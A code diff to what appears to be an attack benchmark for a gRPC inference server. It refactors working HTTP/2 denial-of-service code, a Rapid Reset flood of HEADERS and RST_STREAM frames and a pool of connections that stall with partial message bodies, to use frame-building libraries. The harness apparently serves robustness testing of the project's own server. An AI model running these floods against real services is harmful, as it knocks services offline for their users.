@@ -69,7 +69,6 @@ import selectors
 import shutil
 import signal
 import socket
-import struct
 import subprocess
 import sys
 import tempfile
@@ -88,6 +87,8 @@ from _shared import code as _code
 from _shared import free_port as _free_port
 from _shared import progress
 from grpc_health.v1 import health_pb2
+from hpack import Encoder
+from hyperframe.frame import GoAwayFrame, PingFrame, RstStreamFrame, SettingsFrame
 from onnx import TensorProto, helper, numpy_helper
 
 from splitrt.cli.tables import render
@@ -96,6 +97,18 @@ from splitrt.graph import zoo
 from splitrt.rig.cloudserver import PYTHON_CLI, start_server
 from splitrt.transport import codec, wire
 from splitrt.transport import splitrt_pb2 as pb
+from tests.rawh2 import (
+    PREFACE,
+    data_frame,
+    frames,
+    grpc_fields,
+    grpc_message,
+    headers_frame,
+    ping_ack,
+    rst_stream_frame,
+    settings_frame,
+    with_stream_id,
+)
 
 # Run as a script this module is ``__main__``: ``attack_hostile`` imports it by name, and must get this one.
 sys.modules.setdefault("bench_attack", sys.modules[__name__])
@@ -693,29 +706,10 @@ class Proxy:
 
 # -- raw HTTP/2 ----------------------------------------------------------------------------------------
 
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
-
-def h2_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
-    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
-
-
-def _hpack_literal(name: str, value: str) -> bytes:
-    n, v = name.encode(), value.encode()
-    assert len(n) < 127 and len(v) < 127
-    return b"\x00" + bytes([len(n)]) + n + bytes([len(v)]) + v
-
-
-def grpc_headers(path: str, authority: str) -> bytes:
-    fields = [
-        (":method", "POST"),
-        (":scheme", "http"),
-        (":path", path),
-        (":authority", authority),
-        ("content-type", "application/grpc"),
-        ("te", "trailers"),
-    ]
-    return b"".join(_hpack_literal(k, v) for k, v in fields)
+def grpc_headers(path: str, authority: str, metadata: tuple[tuple[str, str], ...] = ()) -> bytes:
+    """A gRPC call's header block (never-indexed literals: the same bytes on any connection)."""
+    return Encoder().encode(grpc_fields(path, authority, metadata), huffman=False)
 
 
 class H2Pool:
@@ -743,11 +737,11 @@ class H2Pool:
                 s.settimeout(2.0)
                 s.bind((ATTACKER_IP, 0))
                 s.connect((host, int(port)))
-                s.sendall(PREFACE + h2_frame(4, 0, 0))
+                s.sendall(PREFACE + settings_frame())
                 if partial_body:
-                    s.sendall(h2_frame(1, 0x4, 1, grpc_headers(f"{SERVICE}/Infer", address)))
+                    s.sendall(headers_frame(1, grpc_headers(f"{SERVICE}/Infer", address)))
                     # A gRPC message that announces 100 000 bytes; 10 come.
-                    s.sendall(h2_frame(0, 0, 1, b"\x00" + struct.pack(">I", 100_000) + bytes(10)))
+                    s.sendall(data_frame(1, grpc_message(bytes(10), declared_bytes=100_000)))
                 s.setblocking(False)
             except OSError:
                 s.close()
@@ -779,18 +773,14 @@ class H2Pool:
                 self._frames(s, self.bufs.get(s.fileno(), b"") + data)
 
     def _frames(self, s: socket.socket, buf: bytes) -> None:
-        while len(buf) >= 9:
-            length = int.from_bytes(buf[:3], "big")
-            if len(buf) < 9 + length:
-                break
-            kind, flags, payload = buf[3], buf[4], buf[9 : 9 + length]
-            buf = buf[9 + length :]
+        parsed, buf = frames(buf)
+        for f in parsed:
             try:
-                if kind == 4 and not flags & 1:
-                    s.send(h2_frame(4, 1, 0))
-                elif kind == 6 and not flags & 1:
-                    s.send(h2_frame(6, 1, 0, payload))
-                elif kind in (3, 7):  # RST_STREAM, GOAWAY: the server let go of us
+                if isinstance(f, SettingsFrame) and "ACK" not in f.flags:
+                    s.send(settings_frame(ack=True))
+                elif isinstance(f, PingFrame) and "ACK" not in f.flags:
+                    s.send(ping_ack(f.opaque_data))
+                elif isinstance(f, (RstStreamFrame, GoAwayFrame)):  # the server let go of us
                     self._drop(s)
                     return
             except OSError:
@@ -1027,7 +1017,9 @@ class RapidReset(Attack):
 
     def arm(self, ctx: Ctx) -> None:
         host, port = ctx.server_address.rsplit(":", 1)
-        headers = grpc_headers(f"{SERVICE}/Infer", ctx.server_address)
+        # One frame of each kind made by hyperframe, sent on every stream with its id written in.
+        headers = headers_frame(1, grpc_headers(f"{SERVICE}/Infer", ctx.server_address))
+        reset = rst_stream_frame(1)  # CANCEL
 
         def one_connection() -> str:
             s = socket.socket()
@@ -1036,13 +1028,13 @@ class RapidReset(Attack):
                 s.settimeout(2.0)
                 s.bind((ATTACKER_IP, 0))
                 s.connect((host, int(port)))
-                s.sendall(PREFACE + h2_frame(4, 0, 0))
+                s.sendall(PREFACE + settings_frame())
                 s.setblocking(False)
                 while not self.stop_ev.is_set() and stream < 2**31 - 2 * self.batch:
                     out = []
                     for _ in range(self.batch):
-                        out.append(h2_frame(1, 0x4, stream, headers))  # HEADERS, END_HEADERS
-                        out.append(h2_frame(3, 0, stream, struct.pack(">I", 8)))  # RST_STREAM CANCEL
+                        out.append(with_stream_id(headers, stream))  # HEADERS, END_HEADERS
+                        out.append(with_stream_id(reset, stream))  # RST_STREAM CANCEL
                         stream += 2
                     s.setblocking(True)
                     s.sendall(b"".join(out))
@@ -1053,11 +1045,9 @@ class RapidReset(Attack):
                         data = s.recv(1 << 16)
                         if not data:
                             return "closed"
-                        buf = buf[-(1 << 16) :] + data
-                        while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
-                            if buf[3] == 7:
-                                return "goaway"
-                            buf = buf[9 + int.from_bytes(buf[:3], "big") :]
+                        parsed, buf = frames(buf + data)
+                        if any(isinstance(f, GoAwayFrame) for f in parsed):
+                            return "goaway"
             except OSError:
                 time.sleep(0.05)  # refused or cut: not in a tight loop
                 return "error"
